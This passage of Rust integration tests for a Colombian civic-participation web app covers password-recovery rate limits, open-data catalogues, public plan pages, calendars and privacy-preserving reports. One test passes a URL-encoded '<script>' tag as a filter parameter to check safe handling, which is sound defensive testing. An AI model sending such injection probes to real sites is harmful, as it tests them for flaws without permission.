    // A stranger asking for the admin's link again and again: a few links are sent,
    // then nothing more (the answer stays the same), and then the address is refused;
    // the admin still signs in, and the links already sent still work.
    let before = count("password_recoveries").await;
    let ask_from = |ip: &'static str| {
        let app = &app;
        async move {
            let mut request = Request::post("/ingresar/recuperar")
                .header(header::HOST, HOST)
                .header(header::ORIGIN, ORIGIN)
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .body(Body::from("usuario=admin"))
                .unwrap();
            request.extensions_mut().insert(axum::extract::ConnectInfo(
                std::net::SocketAddr::from((ip.parse::<std::net::IpAddr>().unwrap(), 4000)),
            ));
            app.send(request).await
        }
    };
    // From five addresses, one request each: three links go out, and the answers are
    // all the same.
    let mut answers = Vec::new();
    for ip in ["10.9.0.1", "10.9.0.2", "10.9.0.3", "10.9.0.4", "10.9.0.5"] {
        let r = ask_from(ip).await;
        assert_eq!(r.status, StatusCode::OK);
        answers.push(r.body);
    }
    assert!(answers.windows(2).all(|w| w[0] == w[1]));
    // One address past its five requests is refused, whatever it names.
    for _ in 0..4 {
        assert_eq!(ask_from("10.9.0.1").await.status, StatusCode::OK);
    }
    let refused = ask_from("10.9.0.1").await;
    assert_eq!(refused.status, StatusCode::TOO_MANY_REQUESTS);
    assert!(refused.body.contains("demasiados enlaces de recuperación"));
    let after: i64 = participa_store::on_conn!(app.store.conn().await.unwrap(), |pool| {
        sqlx::Row::get(
            &sqlx::query("SELECT COUNT(*) AS n FROM password_recoveries")
                .fetch_one(&mut *pool)
                .await
                .unwrap(),
            "n",
        )
    });
    assert_eq!(
        after - before,
        3,
        "the admin's share of links in the window"
    );
    app.login("admin").await;
}

/// Issue 14, part 9: without a mail server no link can reach anyone, so none is issued
/// and the page says to ask the administrator (whoever is named).
async fn without_a_mail_server_no_recovery_link_is_issued(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let form = app.get("/ingresar/recuperar", None).await;
    assert_eq!(form.status, StatusCode::OK);
    assert!(form
        .body
        .contains("no tiene configurado el envío de correos"));
    let r = app
        .post("/ingresar/recuperar", None, &[("usuario", "auditor")])
        .await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(r.body.contains("restablezca su contraseña"));
    let n: i64 = participa_store::on_conn!(app.store.conn().await.unwrap(), |pool| {
        sqlx::Row::get(
            &sqlx::query("SELECT COUNT(*) AS n FROM password_recoveries")
                .fetch_one(&mut *pool)
                .await
                .unwrap(),
            "n",
        )
    });
    assert_eq!(n, 0);
}

/// Issue 15, part 6: `/datos` lists every public file of the published plans with the
/// licence, its DCAT description as JSON-LD (a file, and embedded in the page), the data
/// dictionary as a page and CSV, and the activities CSV for Excel in Spanish (Colombia).
async fn the_open_data_catalogue_describes_every_public_file(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let datasets = |v: &serde_json::Value| v["dcat:dataset"].as_array().unwrap().len();
    let empty = app.get("/datos/catalogo.jsonld", None).await;
    assert_eq!(empty.status, StatusCode::OK);
    let empty: serde_json::Value = serde_json::from_str(&empty.body).unwrap();
    assert_eq!(empty["@type"], "dcat:Catalog");
    assert_eq!(datasets(&empty), 0, "nothing unpublished is listed");
    assert_eq!(
        app.get("/datos/planes/1/actividades-excel.csv", None)
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    app.to_status(&[
        Transition::Consolidate,
        Transition::Review,
        Transition::Approve,
        Transition::Publish,
    ])
    .await;

    let file = app.get("/datos/catalogo.jsonld", None).await;
    assert!(file.headers[header::CONTENT_TYPE]
        .to_str()
        .unwrap()
        .starts_with("application/ld+json"));
    let catalogue: serde_json::Value = serde_json::from_str(&file.body).unwrap();
    assert_eq!(datasets(&catalogue), 1);
    let dataset = &catalogue["dcat:dataset"][0];
    assert_eq!(dataset["@type"], "dcat:Dataset");
    assert_eq!(
        dataset["dct:license"],
        "https://creativecommons.org/licenses/by-sa/4.0/"
    );
    assert!(dataset["dct:issued"].as_str().unwrap().len() == 10);
    let distributions = dataset["dcat:distribution"].as_array().unwrap();
    assert_eq!(distributions.len(), 5);
    for d in distributions {
        assert_eq!(d["@type"], "dcat:Distribution");
        assert!(d["dcat:mediaType"].as_str().is_some());
        let url = d["dcat:downloadURL"].as_str().unwrap();
        let got = app.get(url, None).await;
        assert_eq!(got.status, StatusCode::OK, "{url}");
        assert!(!got.bytes.is_empty(), "{url}");
    }

    let page = app.get("/datos", None).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.body.contains("CC BY-SA 4.0"));
    let start = page
        .body
        .find("<script type=\"application/ld+json\">")
        .expect("the catalogue embedded in the page")
        + "<script type=\"application/ld+json\">".len();
    let end = start + page.body[start..].find("</script>").unwrap();
    let embedded: serde_json::Value = serde_json::from_str(&page.body[start..end]).unwrap();
    assert_eq!(embedded, catalogue);
    assert!(page.body.contains("/datos/planes/1/actividades-excel.csv"));

    let excel = app.get("/datos/planes/1/actividades-excel.csv", None).await;
    assert_eq!(excel.status, StatusCode::OK);
    assert_eq!(&excel.bytes[..3], [0xEF, 0xBB, 0xBF], "UTF-8 with BOM");
    let text = std::str::from_utf8(&excel.bytes[3..]).unwrap();
    assert!(text.starts_with("entidad;vigencia;plan;numero;actividad;"));
    let standard = app.get("/planes/1/datos.csv", None).await;
    assert_eq!(
        text.lines().count(),
        std::str::from_utf8(&standard.bytes[3..])
            .unwrap()
            .lines()
            .count(),
        "one line per activity in both variants"
    );
    let mut rows = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(text.as_bytes());
    let plan = app.store.published_plan(PlanId(1)).await.unwrap().unwrap();
    assert_eq!(rows.records().count(), plan.plan.activities.len());

    let dictionary = app.get("/datos/diccionario/plan", None).await;
    assert_eq!(dictionary.status, StatusCode::OK);
    assert!(dictionary.body.contains("fecha_inicial"));
    let csv = app.get("/datos/diccionario/plan.csv", None).await;
    let csv = std::str::from_utf8(&csv.bytes[3..]).unwrap();
    assert!(csv.starts_with("columna,tipo,descripcion\r\n"));
    assert_eq!(csv.lines().count(), 1 + 19);
    assert!(csv.contains("vigencia,número entero,"));
}

/// The text of one activity card on the public plan page.
fn public_card(body: &str, number: u32) -> String {
    let start = format!("<li id=\"actividad-{number}\">");
    body.split(&start)
        .nth(1)
        .and_then(|rest| rest.split("</article>").next())
        .map(|card| {
            visible_text(card)
                .split_whitespace()
                .collect::<Vec<_>>()
                .join(" ")
        })
        .unwrap_or_default()
}

/// Issue 15, part 1: the public plan page shows each activity's status, its progress
/// (verified, or reported and marked as not yet verified), the accepted narrative,
/// indicators against their targets, the evidence its office published (private until
/// then, and only with the confirmation that it holds no personal data), progress by
/// office, status chips that filter the cards, and each closed period's public report
/// without names or the history of submissions.
async fn the_public_plan_page_shows_progress_and_published_evidence(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let reporter = app.login("reporter").await;
    let auditor = app.login("auditor").await;
    assert_eq!(
        app.get("/planes/1/seguimiento/1.pdf", None).await.status,
        StatusCode::NOT_FOUND,
        "no public report of a plan not published"
    );
    app.to_status(&[
        Transition::Consolidate,
        Transition::Review,
        Transition::Approve,
        Transition::Publish,
    ])
    .await;
    let page = app.get("/planes/1", None).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(public_card(&page.body, 13).contains("sin reportes todavía"));
    assert!(page.body.contains("Aún no se ha cerrado ningún periodo"));

    let base = "/admin/planes/1/seguimiento/actividades/13";
    let ind = app
        .post(
            &format!("{base}/indicadores"),
            Some(&admin),
            &[
                ("nombre", "Interacciones"),
                ("unidad", "interacciones"),
                ("meta", "1000"),
                ("agregacion", "suma"),
            ],
        )
        .await;
    assert_eq!(ind.status, StatusCode::SEE_OTHER, "{}", ind.body);
    let sent = app
        .post_files(
            &format!("{base}/avance"),
            Some(&reporter),
            &[
                ("periodo", "1"),
                ("avance", "40"),
                ("descripcion", "Transmisión en vivo con afiliados"),
                ("indicador_1", "250"),
            ],
            &[("evidencias", "transmision.pdf", PDF)],
        )
        .await;
    assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.body);
    // Activity 15 (also ARCOM) reported complete: "Cumplida" until reviewed.
    let done = app
        .post_files(
            "/admin/planes/1/seguimiento/actividades/15/avance",
            Some(&reporter),
            &[
                ("periodo", "1"),
                ("avance", "100"),
                ("descripcion", "Piezas de divulgación publicadas"),
            ],
            &[("evidencias", "piezas.pdf", PDF)],
        )
        .await;
    assert_eq!(done.status, StatusCode::SEE_OTHER, "{}", done.body);

    // The change shows at once to whoever made it in this process (no second's wait).
    let page = app.get("/planes/1", None).await;
    let card = public_card(&page.body, 13);
    assert!(card.contains("40 %"), "{card}");
    assert!(card.contains("reportado, sin verificar"), "{card}");
    assert!(
        !card.contains("Transmisión en vivo"),
        "a narrative shows only once internal control accepts it: {card}"
    );
    assert!(
        card.contains("Interacciones: 250 de una meta de 1000"),
        "{card}"
    );
    assert!(
        !page.body.contains("transmision.pdf"),
        "evidence is private by default"
    );
    assert_eq!(
        app.get("/planes/1/evidencias/1", None).await.status,
        StatusCode::NOT_FOUND
    );

    let ok = app
        .post(
            &format!("{base}/revision"),
            Some(&auditor),
            &[
                ("periodo", "1"),
                ("decision", "aceptar"),
                ("avance_verificado", "35"),
                ("suficiencia", "si"),
                ("observaciones", "Verificado"),
            ],
        )
        .await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER, "{}", ok.body);
    let page = app.get("/planes/1", None).await;
    let card = public_card(&page.body, 13);
    assert!(card.contains("35 %"), "{card}");
    assert!(card.contains("verificado por control interno"), "{card}");
    assert!(card.contains("Transmisión en vivo con afiliados"), "{card}");
    assert!(!card.contains("Usuario"), "no staff names: {card}");
    assert!(page.body.contains("Avance por dependencia"));

    // Publishing needs the confirmation; another office may not; withdrawing is free.
    let staff_page = app.get(base, Some(&reporter)).await;
    assert!(staff_page
        .body
        .contains("action=\"/admin/evidencias/1/visibilidad\""));
    let unconfirmed = app
        .post(
            "/admin/evidencias/1/visibilidad",
            Some(&reporter),
            &[("publica", "si")],
        )
        .await;
    assert_eq!(unconfirmed.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(unconfirmed.body.contains("no contiene datos personales"));
    assert!(unconfirmed.body.contains("id=\"sin_datos_personales\""));
    let hash = password_auth::generate_hash(PASSWORD);
    testing::create_user(
        &app.store,
        "vivienda",
        "Área de Vivienda",
        Role::Reporter,
        &["ARVIV"],
        &hash,
    )
    .await;
    let other_office = app.login("vivienda").await;
    let confirmed = [("publica", "si"), ("sin_datos_personales", "si")];
    for (who, status) in [
        (&other_office, StatusCode::FORBIDDEN),
        (&auditor, StatusCode::FORBIDDEN),
    ] {
        let r = app
            .post("/admin/evidencias/1/visibilidad", Some(who), &confirmed)
            .await;
        assert_eq!(r.status, status);
    }
    assert_eq!(
        app.post(
            "/admin/evidencias/999/visibilidad",
            Some(&reporter),
            &confirmed
        )
        .await
        .status,
        StatusCode::NOT_FOUND
    );
    let published = app
        .post(
            "/admin/evidencias/1/visibilidad",
            Some(&reporter),
            &confirmed,
        )
        .await;
    assert_eq!(
        published.status,
        StatusCode::SEE_OTHER,
        "{}",
        published.body
    );
    let page = app.get("/planes/1", None).await;
    assert!(public_card(&page.body, 13).contains("transmision.pdf"));
    assert!(!page.body.contains("piezas.pdf"), "only the file published");
    let file = app.get("/planes/1/evidencias/1", None).await;
    assert_eq!(file.status, StatusCode::OK);
    assert_eq!(file.bytes, PDF);
    assert_eq!(
        app.get("/planes/1/evidencias/2", None).await.status,
        StatusCode::NOT_FOUND,
        "a private file is not found, not refused"
    );
    assert_eq!(
        app.get("/planes/2/evidencias/1", None).await.status,
        StatusCode::NOT_FOUND
    );
    let audit = app.get("/admin/auditoria", Some(&admin)).await;
    assert!(audit.body.contains("evidence.publish"));

    // Status chips filter the cards; an unknown status shows them all.
    let chips = app.get("/planes/1", None).await;
    assert!(chips
        .body
        .contains("href=\"/planes/1?estado=cumplida#actividades\""));
    let done_only = app.get("/planes/1?estado=cumplida", None).await;
    assert!(done_only.body.contains("id=\"actividad-15\""));
    assert!(!done_only.body.contains("id=\"actividad-13\""));
    assert!(done_only
        .body
        .contains("Se muestran solo las actividades en estado «Cumplida»"));
    let overdue = app.get("/planes/1?estado=vencida", None).await;
    assert!(overdue.body.contains("id=\"actividad-13\""));
    assert!(!overdue.body.contains("id=\"actividad-15\""));
    let any = app.get("/planes/1?estado=%3Cscript%3E", None).await;
    assert_eq!(any.status, StatusCode::OK);
    assert!(any.body.contains("id=\"actividad-13\"") && any.body.contains("id=\"actividad-15\""));

    // A closed period's report is public, without history or names.
    assert_eq!(
        app.get("/planes/1/seguimiento/1.pdf", None).await.status,
        StatusCode::NOT_FOUND,
        "not before the period is closed"
    );
    let closed = app
        .post(
            "/admin/planes/1/seguimiento/periodos/1/cerrar",
            Some(&auditor),
            &[("confirmar", "si")],
        )
        .await;
    assert_eq!(closed.status, StatusCode::SEE_OTHER, "{}", closed.body);
    let page = app.get("/planes/1", None).await;
    assert!(page.body.contains("href=\"/planes/1/seguimiento/1.pdf\""));
    let pdf = app.get("/planes/1/seguimiento/1.pdf", None).await;
    assert_eq!(pdf.status, StatusCode::OK);
    let text = pdf_text(&pdf.bytes);
    assert!(text.contains("Transmisión en vivo con afiliados"), "{text}");
    assert!(
        text.contains("transmision.pdf"),
        "published evidence listed"
    );
    assert!(
        !text.contains("piezas.pdf"),
        "private evidence left out: {text}"
    );
    assert!(!text.contains("Usuario"), "no staff names: {text}");
    let staff = app
        .get("/admin/planes/1/informes/seguimiento/1.pdf", Some(&admin))
        .await;
    assert!(
        pdf_text(&staff.bytes).contains("piezas.pdf"),
        "staff see it all"
    );
    let xlsx = app.get("/planes/1/seguimiento/1.xlsx", None).await;
    assert_eq!(xlsx.status, StatusCode::OK);
    assert!(xlsx.bytes.starts_with(b"PK"));
    assert_eq!(
        app.get("/planes/1/seguimiento/2.pdf", None).await.status,
        StatusCode::NOT_FOUND,
        "an open period has no public report"
    );
    assert_eq!(
        app.get("/planes/1/seguimiento/1.docx", None).await.status,
        StatusCode::NOT_FOUND
    );
    // Withdrawn, the file is gone from the page and the address.
    let withdrawn = app
        .post(
            "/admin/evidencias/1/visibilidad",
            Some(&admin),
            &[("publica", "no")],
        )
        .await;
    assert_eq!(withdrawn.status, StatusCode::SEE_OTHER);
    assert!(!app
        .get("/planes/1", None)
        .await
        .body
        .contains("transmision.pdf"));
    assert_eq!(
        app.get("/planes/1/evidencias/1", None).await.status,
        StatusCode::NOT_FOUND
    );
}

/// Issue 15, point 2: the Menú Participa lists each part's published activities with what
/// came of them, the calendar is a page and an iCalendar feed, and `/consultas`,
/// `/audiencias` and `/eventos` keep everything citizens may see, past included.
async fn the_menu_participa_calendar_and_archives_show_the_published_plan(db: TestDatabase) {
    use participa_domain::menu_participa::ParticipaPart;
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let admin = Some(admin.as_str());

    // Before anything is published the pages answer, and say so.
    let menu = app.get("/participa", None).await;
    assert_eq!(menu.status, StatusCode::OK);
    assert!(menu.body.contains("Todavía no hay planes publicados"));
    for part in ParticipaPart::ALL {
        assert!(menu
            .body
            .contains(&format!("href=\"/participa/{}\"", part.slug())));
        assert!(menu.body.contains(part.label()));
    }
    for (path, empty) in [
        (
            "/consultas",
            "Todavía no hay consultas ni foros publicados.",
        ),
        ("/audiencias", "Todavía no hay audiencias públicas."),
        ("/eventos", "Todavía no hay eventos."),
        ("/participa/calendario", "Todavía no hay fechas publicadas."),
    ] {
        let page = app.get(path, None).await;
        assert_eq!(page.status, StatusCode::OK, "{path}");
        assert!(page.body.contains(empty), "{path}: {}", page.body);
    }
    assert_eq!(
        app.get("/participa/otra-parte", None).await.status,
        StatusCode::NOT_FOUND
    );

    // The seed plan, tagged with the seed's tags, published.
    let plan = app.store.plan(PlanId(1)).await.unwrap();
    let tagged = participa_formats::tags_tsv::apply_tags(
        "etiquetas-2025.tsv",
        include_bytes!("../../../seed/etiquetas-2025.tsv"),
        &plan,
    )
    .unwrap();
    let system = Actor::system();
    app.store
        .save_plan(
            PlanId(1),
            &tagged,
            None,
            &participa_store::Change {
                actor: &system,
                action: participa_store::AuditAction::PlanTags,
                plan_id: Some(1),
                subject: "etiquetas".into(),
                before: None,
                after: None,
            },
        )
        .await
        .unwrap();
    app.to_status(&[
        Transition::Consolidate,
        Transition::Review,
        Transition::Approve,
        Transition::Publish,
    ])
    .await;

    // What came of the activities: a hearing (activity 4), a survey with public results
    // and a forum (activity 2), a draft survey nobody may see yet, events (activity 6).
    let hearing = app
        .post(
            "/admin/audiencias",
            admin,
            &[
                ("titulo", "Audiencia pública de rendición de cuentas 2025"),
                ("fecha", "2025-07-30"),
                ("hora", "10:00"),
                ("lugar", "Auditorio Caja Honor, Bogotá"),
                ("transmision", ""),
                (
                    "informe",
                    "https://www.cajahonor.gov.co/informe-rdc-2025.pdf",
                ),
                ("informe_fecha", "2025-07-01"),
                ("convocatoria", "Sitio web"),
                ("actividad", "1:4"),
            ],
        )
        .await;
    assert_eq!(hearing.status, StatusCode::SEE_OTHER, "{}", hearing.body);
    let today = participa_app::dates::today();
    let opens = today.to_string();
    let closes = (today + chrono::Duration::days(30)).to_string();
    let (opens, closes) = (&opens, &closes);
    let consultation = |fields: Vec<(&'static str, String)>| {
        let app = &app;
        async move {
            let mut form: Vec<(&str, &str)> = vec![
                ("abre", opens.as_str()),
                ("cierra", closes.as_str()),
                ("actividad", "1:2"),
            ];
            form.extend(fields.iter().map(|(k, v)| (*k, v.as_str())));
            let created = app.post("/admin/consultas", admin, &form).await;
            assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
            created
                .location
                .unwrap()
                .rsplit('/')
                .next()
                .unwrap()
                .to_string()
        }
    };
    let survey = consultation(vec![(
        "titulo",
        "Encuesta previa a la rendición de cuentas".into(),
    )])
    .await;
    assert_eq!(
        app.post(
            &format!("/admin/consultas/{survey}/resultados"),
            admin,
            &[("publicos", "si")]
        )
        .await
        .status,
        StatusCode::SEE_OTHER
    );
    let forum = consultation(vec![
        ("titulo", "Foro sobre vivienda".into()),
        ("tipo", "foro".into()),
        ("moderacion", "previa".into()),
    ])
    .await;
    let later = (today + chrono::Duration::days(40)).to_string();
    let much_later = (today + chrono::Duration::days(60)).to_string();
    let draft = app
        .post(
            "/admin/consultas",
            admin,
            &[
                ("titulo", "Encuesta en borrador"),
                ("abre", &later),
                ("cierra", &much_later),
                ("actividad", "1:2"),
            ],
        )
        .await;
    assert_eq!(draft.status, StatusCode::SEE_OTHER, "{}", draft.body);
    for (title, date, attendees) in [
        ("Feria de servicios en Cali", "2025-06-14", "40"),
        ("Feria de servicios en Tunja", "2025-09-20", "3"),
    ] {
        let r = app
            .post_files(
                "/admin/eventos",
                admin,
                &[
                    ("titulo", title),
                    ("fecha", date),
                    ("modalidad", "presencial"),
                    ("lugar", "Batallón"),
                    ("territorio", "Colombia"),
                    ("actividad", "1:6"),
                    ("asistentes", attendees),
                ],
                &[],
            )
            .await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    }

    // /participa counts each part's activities of the published plan.
    let published = app.store.published_plan(PlanId(1)).await.unwrap().unwrap();
    let menu = app.get("/participa", None).await;
    assert!(!menu.body.contains("Todavía no hay planes publicados"));
    let mut listed = 0;
    for part in ParticipaPart::ALL {
        let n = published
            .plan
            .activities
            .iter()
            .filter(|a| part.includes(&a.tags))
            .count();
        listed += n;
        let card = &menu.body[menu.body.find(part.label()).unwrap()..];
        let card = &card[..card.find("</li>").unwrap()];
        let words = if n == 1 {
            "1 actividad del plan".to_string()
        } else {
            format!("{n} actividades del plan")
        };
        assert!(card.contains(&words), "{}: {card}", part.label());
    }
    assert!(listed > 0, "the seed's tags put activities in the menu");

    // Each part lists its activities and what came of them, with links.
    let accountability = app.get("/participa/rendicion-de-cuentas", None).await;
    assert_eq!(accountability.status, StatusCode::OK);
    let body = &accountability.body;
    let activity4 = &published.plan.activities[3];
    assert!(body.contains(&format!("Actividad 4: {}", activity4.description)));
    assert!(body.contains("Audiencia pública de rendición de cuentas 2025"));
    assert!(body.contains("href=\"/audiencias/1\""));
    assert!(body.contains("href=\"https://www.cajahonor.gov.co/informe-rdc-2025.pdf\""));
    assert!(body.contains("Feria de servicios en Cali"));
    assert!(body.contains("asistentes: 40"));
    assert!(
        body.contains("asistentes: menos de 5"),
        "small counts suppressed"
    );
    assert!(body.contains("Estado: <span"));
    let consultation = app.get("/participa/consulta", None).await;
    assert!(consultation
        .body
        .contains(&format!("href=\"/consultas/{survey}/resultados\"")));
    assert!(consultation
        .body
        .contains(&format!("href=\"/consultas/{forum}\"")));
    assert!(!consultation.body.contains("Encuesta en borrador"));
    // Activity 5 is only in the consultation part, never in control social.
    let activity5 = &published.plan.activities[4].description;
    assert!(consultation.body.contains(activity5.as_str()));
    let control = app.get("/participa/control-social", None).await;
    assert_eq!(control.status, StatusCode::OK);
    assert!(!control.body.contains(activity5.as_str()));

    // The calendar: by month, with the hearing and the consultation's dates, and its feed.
    let calendar = app.get("/participa/calendario", None).await;
    assert_eq!(calendar.status, StatusCode::OK);
    assert!(calendar.body.contains("href=\"/participa/calendario.ics\""));
    let july = &calendar.body[calendar.body.find("id=\"mes-2025-07\"").unwrap()..];
    let july = &july[..july.find("</section>").unwrap()];
    assert!(july.contains("Julio de 2025"));
    assert!(july.contains("Audiencia pública de rendición de cuentas 2025"));
    // Activity 6 (5 feb – 28 nov 2025) starts in February and still runs in July.
    let activity6 = &published.plan.activities[5].description;
    let running = &july[july.find("siguen en curso").expect("a running list")..];
    assert!(running.contains(activity6.as_str()), "{july}");
    assert!(running.contains("Hasta el 28 nov 2025"));
    let february = &calendar.body[calendar.body.find("id=\"mes-2025-02\"").unwrap()..];
    let february = &february[..february.find("</section>").unwrap()];
    assert!(february.contains(&format!("{activity6}</a>. Del 5 feb 2025 al 28 nov 2025")));
    assert!(calendar.body.contains(&format!(
        "Abre la consulta el {}",
        participa_app::dates::fecha(today)
    )));
    assert!(!calendar.body.contains("Encuesta en borrador"));

    let feed = app.get("/participa/calendario.ics", None).await;
    assert_eq!(feed.status, StatusCode::OK);
    assert_eq!(
        feed.headers[header::CONTENT_TYPE],
        "text/calendar; charset=utf-8"
    );
    let parsed: icalendar::Calendar = feed.body.parse().expect("a valid iCalendar file");
    let events: Vec<&icalendar::Event> = parsed
        .components
        .iter()
        .filter_map(|c| match c {
            icalendar::CalendarComponent::Event(e) => Some(e),
            _ => None,
        })
        .collect();
    use icalendar::{Component, EventLike};
    // Every activity, the hearing, two public consultations and two events.
    assert_eq!(events.len(), published.plan.activities.len() + 1 + 2 + 2);
    for a in &published.plan.activities {
        let uid = format!("actividad-1-{}@participa", a.number.get());
        let e = events
            .iter()
            .find(|e| e.get_uid() == Some(uid.as_str()))
            .unwrap_or_else(|| panic!("no VEVENT {uid}"));
        assert!(e.get_summary().unwrap().contains(&a.description));
        assert_eq!(
            e.get_start(),
            Some(icalendar::DatePerhapsTime::Date(a.start)),
            "an all-day event"
        );
        assert_eq!(
            e.get_end(),
            Some(icalendar::DatePerhapsTime::Date(a.end.succ_opt().unwrap())),
            "DTEND is the day after the last one"
        );
    }
    let hearing_event = events
        .iter()
        .find(|e| e.get_uid() == Some("audiencia-1@participa"))
        .unwrap();
    assert_eq!(
        hearing_event.get_location(),
        Some("Auditorio Caja Honor, Bogotá")
    );
    assert!(!feed.body.contains("Encuesta en borrador"));

    // The archives: newest first, past ones with their results; attendance as totals.
    let consultations = app.get("/consultas", None).await;
    assert_eq!(consultations.status, StatusCode::OK);
    assert!(consultations
        .body
        .contains("Encuesta previa a la rendición de cuentas"));
    assert!(consultations.body.contains("Foro sobre vivienda"));
    assert!(consultations
        .body
        .contains(&format!("href=\"/consultas/{survey}/resultados\"")));
    assert!(!consultations.body.contains("Encuesta en borrador"));
    let hearings = app.get("/audiencias", None).await;
    assert_eq!(hearings.status, StatusCode::OK);
    assert!(hearings.body.contains("href=\"/audiencias/1\""));
    assert!(hearings.body.contains("30 jul 2025, 10:00"));
    assert!(hearings.body.contains("Informe de la audiencia"));
    let events_page = app.get("/eventos", None).await;
    assert_eq!(events_page.status, StatusCode::OK);
    let tunja = events_page
        .body
        .find("Feria de servicios en Tunja")
        .unwrap();
    let cali = events_page.body.find("Feria de servicios en Cali").unwrap();
    assert!(tunja < cali, "newest first");
    assert!(events_page.body.contains("Asistentes: 40"));
    assert!(events_page.body.contains("Asistentes: menos de 5"));
    assert!(events_page.body.contains("Presencial · Batallón, Colombia"));
    // A page that does not exist is a 404, not an empty page or an error.
    for path in [
        "/eventos?pagina=2",
        "/eventos?pagina=0",
        "/consultas?pagina=dos",
        "/audiencias?pagina=99999999999999999999",
    ] {
        assert_eq!(
            app.get(path, None).await.status,
            StatusCode::NOT_FOUND,
            "{path}"
        );
    }
    assert_eq!(
        app.get("/eventos?pagina=1", None).await.status,
        StatusCode::OK
    );

    // The pages are kept in memory until staff change something: a new event shows.
    let next_week = (today + chrono::Duration::days(7)).to_string();
    let r = app
        .post_files(
            "/admin/eventos",
            admin,
            &[
                ("titulo", "Feria de vivienda en Medellín"),
                ("fecha", &next_week),
                ("modalidad", "virtual"),
                ("lugar", ""),
                ("territorio", ""),
                ("actividad", "1:12"),
                ("asistentes", "0"),
            ],
            &[],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let events_page = app.get("/eventos", None).await;
    let medellin = &events_page.body[events_page
        .body
        .find("Feria de vivienda en Medellín")
        .unwrap()..];
    let medellin = &medellin[..medellin.find("</li>").unwrap()];
    assert!(
        medellin.contains("Virtual") && medellin.contains("Por realizar"),
        "{medellin}"
    );
    let feed_again = app.get("/participa/calendario.ics", None).await;
    let parsed_again: icalendar::Calendar = feed_again.body.parse().unwrap();
    assert_eq!(parsed_again.components.len(), events.len() + 1);
    assert!(
        feed_again.body.contains("UID:audiencia-1@participa"),
        "UIDs are stable"
    );
}

/// The cell at (`row`, `col`) of a sheet of an XLSX download.
fn xlsx_sheet(bytes: &[u8], name: &str) -> calamine::Range<calamine::Data> {
    use calamine::{Reader, Xlsx};
    let mut book = Xlsx::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
    book.worksheet_range(name)
        .unwrap_or_else(|e| panic!("no sheet «{name}»: {e}"))
}

/// The row of a sheet whose first cell is `label`.
fn xlsx_row(sheet: &calamine::Range<calamine::Data>, label: &str) -> Vec<calamine::Data> {
    sheet
        .rows()
        .find(|r| r.first() == Some(&calamine::Data::String(label.into())))
        .unwrap_or_else(|| panic!("no row «{label}»"))
        .to_vec()
}

async fn deliverable_reports_of_suggestions_events_and_channels(db: TestDatabase) {
    use calamine::Data;
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let auditor = app.login("auditor").await;
    let reporter = app.login("reporter").await;
    // Three suggestions, one with contact data; one answered today (within the term).
    for (i, (category, text)) in [
        ("vivienda", "Más ferias de vivienda en Cali"),
        ("vivienda", "Ferias de vivienda también en Pasto"),
        ("tramites", "Menos requisitos para el crédito"),
    ]
    .iter()
    .enumerate()
    {
        let ip = format!("10.0.1.{i}");
        let mut form = vec![("categoria", *category), ("texto", *text)];
        if i == 0 {
            form.extend([
                ("nombre", "Ana Reservada"),
                ("correo", "ana.reservada@correo.co"),
                ("autorizacion", "si"),
            ]);
        }
        let sent = post_from(&app, &ip, "/sugerencias", &form).await;
        assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.body);
    }
    let code = app.store.suggestions(&Default::default()).await.unwrap()[0]
        .code
        .clone();
    let id = app.store.suggestions(&Default::default()).await.unwrap()[0].id;
    let answered = app
        .post(
            &format!("/admin/sugerencias/{id}"),
            Some(&admin),
            &[("estado", "respondida"), ("respuesta", "Se revisarán.")],
        )
        .await;
    assert_eq!(answered.status, StatusCode::SEE_OTHER);
    let list = app.get("/admin/sugerencias", Some(&auditor)).await;
    assert!(list
        .body
        .contains("href=\"/admin/informes/sugerencias/informe.pdf\""));
    let pdf = app
        .get("/admin/informes/sugerencias/informe.pdf", Some(&auditor))
        .await;
    assert_eq!(pdf.status, StatusCode::OK);
    assert_eq!(pdf.headers["content-type"], "application/pdf");
    let words = pdf_text(&pdf.bytes);
    for expected in [
        "Informe de la campaña de sugerencias",
        "Vivienda y soluciones habitacionales",
        "Trámites y requisitos",
        "Respondidas dentro del término",
        "Ley 1755 de 2015",
        "15 días hábiles",
    ] {
        assert!(
            words.contains(expected),
            "missing «{expected}» in:\n{words}"
        );
    }
    for personal in [
        "Ana Reservada",
        "ana.reservada@correo.co",
        "Pasto",
        code.as_str(),
    ] {
        assert!(!words.contains(personal), "«{personal}» in the report");
    }
    let xlsx = app
        .get("/admin/informes/sugerencias/informe.xlsx", Some(&auditor))
        .await;
    assert_eq!(xlsx.status, StatusCode::OK);
    assert_eq!(
        xlsx.headers["content-type"],
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    let topics = xlsx_sheet(&xlsx.bytes, "Por tema");
    let housing = xlsx_row(&topics, "Vivienda y soluciones habitacionales");
    assert_eq!(housing[1], Data::Float(2.0));
    let term = xlsx_sheet(&xlsx.bytes, "Término de respuesta");
    assert_eq!(
        xlsx_row(&term, "Respondidas dentro del término")[1],
        Data::Float(1.0)
    );
    assert_eq!(
        xlsx_row(&term, "Sin respuesta, en término")[1],
        Data::Float(2.0)
    );
    let summary = xlsx_sheet(&xlsx.bytes, "Resumen");
    assert_eq!(
        xlsx_row(&summary, "Sugerencias recibidas")[1],
        Data::Float(3.0)
    );
    assert!(matches!(
        xlsx_row(&summary, "Estado al")[1],
        Data::DateTime(_)
    ));

    // Events: each one with its date, place and attendees; totals by activity.
    let event = app
        .post_files(
            "/admin/eventos",
            Some(&admin),
            &[
